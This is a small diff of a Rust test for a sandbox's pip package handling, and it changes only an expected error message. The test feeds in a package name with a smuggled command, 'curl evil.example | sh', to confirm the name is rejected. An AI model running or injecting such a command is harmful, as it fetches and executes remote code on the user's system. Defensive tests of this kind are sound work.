@@ -221,7 +221,7 @@ async fn a_bad_package_fails_with_pips_words_and_the_default_image_still_runs() 
 
     // Names that are not package names never reach a build.
     let e = Packages::new(["tabulate; curl evil.example | sh"], [] as [&str; 0]).unwrap_err();
-    assert!(e.to_string().contains("is not a pip package name"), "{e}");
+    assert!(e.to_string().contains("is not a valid pip package name"), "{e}");
 
     // The default image still runs.
     let config = SandboxConfig {
